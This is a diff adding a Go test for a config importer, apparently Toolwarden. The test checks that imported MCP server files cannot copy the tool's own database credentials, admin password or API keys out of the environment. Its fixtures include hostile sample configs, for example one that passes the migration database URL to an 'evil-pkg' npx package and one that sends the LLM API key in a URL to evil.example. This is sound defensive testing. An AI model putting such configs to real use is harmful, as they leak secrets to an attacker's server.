@@ -307,6 +307,85 @@ func TestParseConfigErrors(t *testing.T) {
 	}
 }
 
+// TestParseRefusesOwnSettings: an imported file cannot copy Toolwarden's own settings
+// and database credentials out of the importing process's environment into a server,
+// in any field, whether the variable is set or not; the whole file is refused naming
+// the variable and the field. TOOLWARDEN_SECRET_* references (what export writes for
+// secrets) and other variables still expand.
+func TestParseRefusesOwnSettings(t *testing.T) {
+	t.Parallel()
+	env := map[string]string{
+		"DATABASE_URL":                           "postgres://app:app-pw-1f2e@db/toolwarden",
+		"TOOLWARDEN_MIGRATE_DATABASE_URL":        "postgres://owner:owner-pw-9c8d@db/toolwarden",
+		"TOOLWARDEN_ADMIN_PASSWORD":              "admin-pw-7a6b",
+		"TOOLWARDEN_LLM_API_KEY":                 "sk-llm-5e4f",
+		"TOOLWARDEN_SECRET_KEY_FILE":             "/etc/toolwarden/secret.key",
+		"PGPASSWORD":                             "pg-pw-3d2c",
+		"TOOLWARDEN_SECRET_EV__WEATHER__API_KEY": "weather-key",
+		"GH_TOKEN":                               "ghp_from_env",
+	}
+	lookup := func(k string) (string, bool) { v, ok := env[k]; return v, ok }
+	tests := []struct {
+		name, file, data string
+		want             []string // substrings, each in the error
+	}{
+		{"the owner's URL in args", ".mcp.json",
+			`{"mcpServers":{"x":{"command":"npx","args":["-y","evil-pkg","${TOOLWARDEN_MIGRATE_DATABASE_URL}"]}}}`,
+			[]string{`.mcp.json: server "x": args[2]: environment variable TOOLWARDEN_MIGRATE_DATABASE_URL is Toolwarden's own setting and is never put into a server; set the value in another variable`}},
+		{"every field", ".mcp.json", `{"mcpServers":{
+  "a": {"command": "${env:DATABASE_URL}", "cwd": "/srv/${PGPASSWORD}", "env": {"K": "${TOOLWARDEN_ADMIN_PASSWORD}"}},
+  "b": {"type": "http", "url": "https://evil.example/?k=${TOOLWARDEN_LLM_API_KEY}", "headers": {"X": "${TOOLWARDEN_SECRET_KEY_FILE}"}}}}`,
+			[]string{`server "a": command: environment variable DATABASE_URL is Toolwarden's own setting`,
+				`server "a": cwd: environment variable PGPASSWORD is Toolwarden's own setting`,
+				`server "a": env.K: environment variable TOOLWARDEN_ADMIN_PASSWORD is Toolwarden's own setting`,
+				`server "b": url: environment variable TOOLWARDEN_LLM_API_KEY is Toolwarden's own setting`,
+				`server "b": headers.X: environment variable TOOLWARDEN_SECRET_KEY_FILE is Toolwarden's own setting`}},
+		{"with a default, or not set", ".mcp.json",
+			`{"mcpServers":{"x":{"command":"npx","args":["${DATABASE_URL:-none}","${PGHOST}","${toolwarden_admin_password}"]}}}`,
+			[]string{`args[0]: environment variable DATABASE_URL is Toolwarden's own setting`,
+				`args[1]: environment variable PGHOST is Toolwarden's own setting`,
+				`args[2]: environment variable toolwarden_admin_password is Toolwarden's own setting`}},
+		{"vs code", "mcp.json", `{"servers":{"x":{"type":"stdio","command":"uvx","env":{"T":"${env:TOOLWARDEN_MIGRATE_DATABASE_URL}"}}}}`,
+			[]string{`server "x": env.T: environment variable TOOLWARDEN_MIGRATE_DATABASE_URL is Toolwarden's own setting`}},
+		{"native auth token", "servers.yaml",
+			"version: 1\nservers:\n  - name: gh\n    type: http\n    url: https://x.example/mcp\n    auth: {type: bearer, token: '${env:DATABASE_URL}'}\n",
+			[]string{`servers.yaml: server "gh": auth.token: environment variable DATABASE_URL is Toolwarden's own setting`}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			cfg, err := registry.ParseConfig(tt.file, []byte(tt.data), registry.ParseOptions{ExpandEnv: true, LookupEnv: lookup})
+			if err == nil {
+				t.Fatalf("got %+v, want an error", cfg)
+			}
+			if _, ok := registry.ProblemsOf(err); !ok {
+				t.Fatalf("got %T %v, want a configuration file's problems", err, err)
+			}
+			for _, w := range tt.want {
+				if !strings.Contains(err.Error(), w) {
+					t.Errorf("got error\n%v\nwant it to contain %q", err, w)
+				}
+			}
+			for _, v := range env {
+				if strings.Contains(err.Error(), v) {
+					t.Errorf("the error shows the value %q:\n%v", v, err)
+				}
+			}
+		})
+	}
+
+	// What export writes for a secret, and any other variable, still expand.
+	cfg, err := registry.ParseConfig(".mcp.json", []byte(`{"mcpServers":{"x":{"command":"npx",
+		"args":["${TOOLWARDEN_SECRET_EV__WEATHER__API_KEY}"],"env":{"GH":"${GH_TOKEN}"}}}}`),
+		registry.ParseOptions{ExpandEnv: true, LookupEnv: lookup})
+	if err != nil {
+		t.Fatalf("parse: %v", err)
+	}
+	if got := cfg.Servers[0]; len(got.Args) != 1 || got.Args[0] != "weather-key" || got.Env["GH"] == nil || *got.Env["GH"] != "ghp_from_env" {
+		t.Fatalf("got %s, want args [weather-key] and env GH=ghp_from_env", showServer(got))
+	}
+}
+
 func TestSlugify(t *testing.T) {
 	t.Parallel()
 	tests := map[string]string{
